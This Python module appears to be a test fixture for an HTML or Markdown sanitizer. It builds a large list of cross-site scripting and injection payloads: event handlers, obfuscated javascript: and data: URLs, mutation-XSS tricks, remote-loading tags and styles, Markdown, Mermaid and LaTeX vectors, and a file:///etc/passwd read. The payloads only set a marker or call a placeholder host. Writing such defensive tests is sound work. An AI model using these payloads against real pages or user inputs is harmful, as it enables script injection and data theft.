"""Known ways to make a page act: each sets `window.hostile`, opens a dialog or asks a server, where it is let."""

MARK = "hostile"
ACT = f"window.{MARK}=1"
FAR = "https://example.invalid/x"

_EVENTS = (
    "onerror", "onload", "onclick", "onmouseover", "onfocus", "onblur", "ontoggle", "onanimationstart", "onpointerenter",
    "onbeforetoggle", "onscroll", "onwheel", "onbegin", "onstart", "onpageshow",
)  # fmt: skip
_TAGS = ("img src=x", "a href=#", "div", "span", "p", "table")
_URLS = (
    f"javascript:{ACT}", f"JaVaScRiPt:{ACT}", f" javascript:{ACT}", f"java\tscript:{ACT}", f"java&#10;script:{ACT}",
    f"&#106;avascript:{ACT}", f"javascript&colon;{ACT}", f"vbscript:{ACT}", f"data:text/html,<script>{ACT}</script>",
    "data:text/html;base64,PHNjcmlwdD5ob3N0aWxlPTE8L3NjcmlwdD4=", f"\x01javascript:{ACT}", "file:///etc/passwd",
    *(
        f"{address}text/html,<script>{ACT}</script>"
        for address in ("\x01data:", "\x1f data:", "da\tta:", "d\nata:", "&#1;data:", "da&Tab;ta&#58;", "da&NewLine;ta&colon;",
                        "&#100;&#x41;ta:", "DaTa:", "\xa0data:", "data&amp;#58;", "view-source:data:", "blob:")
    ),
)  # fmt: skip
_WHOLE = (
    f"<script>{ACT}</script>", f"<SCRIPT SRC={FAR}></SCRIPT>", f"<scr<script>ipt>{ACT}</scr</script>ipt>",
    f"<svg onload={ACT}>", f"<svg><script>{ACT}</script></svg>", f"<svg><animate onbegin={ACT} attributeName=x dur=1s>",
    f"<svg><use href='data:image/svg+xml,<svg onload={ACT}>'></svg>",
    f"<math><mtext></form><form><mglyph><svg><mtext><style><path id='</style><img onerror={ACT} src>'>",
    f"<iframe srcdoc='<script>parent.{MARK}=1</script>'></iframe>", f"<iframe src={FAR}></iframe>",
    f"<object data='data:text/html,<script>{ACT}</script>'></object>", f"<embed src={FAR}>",
    f"<form action={FAR}><input type=image src={FAR}></form>", f"<button formaction=javascript:{ACT}>x</button>",
    f"<input autofocus onfocus={ACT}>", f"<select autofocus onfocus={ACT}>", f"<textarea autofocus onfocus={ACT}>",
    f"<video src=x onerror={ACT}>", f"<video><source onerror={ACT}></video>", f"<audio src={FAR}></audio>",
    f"<details open ontoggle={ACT}>", f"<marquee onstart={ACT}>x</marquee>", f"<body onload={ACT}>",
    f"<meta http-equiv=refresh content='0;url={FAR}'>", f"<base href={FAR}>", f"<link rel=stylesheet href={FAR}>",
    f"<style>@import '{FAR}';</style>", f"<style>*{{background:url({FAR})}}</style>",
    f"<div style='background:url({FAR})'>x</div>", f"<p style=\"width:expression({ACT})\">x</p>",
    f"<img src={FAR}>", f"<img srcset='{FAR} 2x'>", f"<picture><source srcset={FAR}><img></picture>",
    f"<img src=`x`onerror={ACT}>", f"<img src=x\nonerror={ACT}>", f"<img/src=x/onerror={ACT}>",
    f"<img src='x' title='\"' onerror={ACT}>", f"<img alt='`><script>{ACT}</script>' src=x>",
    f"<a href='x' title='\"><script>{ACT}</script>'>x</a>", f"<!--><script>{ACT}</script>-->",
    f"<noscript><p title='</noscript><img src=x onerror={ACT}>'>", f"<template><script>{ACT}</script></template>",
    f"<title><img title='</title><img src=x onerror={ACT}>'></title>", f"<xmp><script>{ACT}</script></xmp>",
    f"<table background={FAR}><tr><td background={FAR}>x</table>", f"<isindex type=image src={FAR}>",
    f"![x]({FAR})", f"![x](x \"' onerror={ACT} '\")", f"![x](attachment:\"onerror={ACT})",
    f"[x]: {FAR}\n\n![x]", f"<{FAR} onmouseover={ACT}>", f"```html\n<script>{ACT}</script>\n```",
    f"```mermaid\ngraph TD\n A[\"<img src=x onerror='{ACT}'>\"]\n```", f"$$\\href{{javascript:{ACT}}}{{x}}$$",
    f"$<script>{ACT}</script>$", f"\\begin{{a}}<img src=x onerror={ACT}>\\end{{a}}", f"# <img src=x onerror={ACT}>",
    f"| a |\n|---|\n| <img src=x onerror={ACT}> |", f"- [ ] <script>{ACT}</script>", f"~~<script>{ACT}</script>~~",
    f"<link rel=prefetch href={FAR}>", "<link rel=dns-prefetch href=//example.invalid>", f"<a ping={FAR} href=#>x</a>",
    f"<track src={FAR}>", f"<frameset><frame src={FAR}></frameset>", f"<applet code={FAR}></applet>",
    f"<img src=data:image/svg+xml,<svg/onload={ACT}>>", f"\x00<script>{ACT}</script>", f"\x1b[31m<script>{ACT}</script>\x1b[0m",
)  # fmt: skip

PAYLOADS = (
    *(f"<{tag} {event}={ACT}>x" for event in _EVENTS for tag in _TAGS[:2]),
    *(f"<{tag} onclick={ACT} style=x>x" for tag in _TAGS[2:]),
    *(f"<a href='{url}'>x</a>" for url in _URLS),
    *(f"[x]({url})" for url in _URLS),
    *_WHOLE,
)
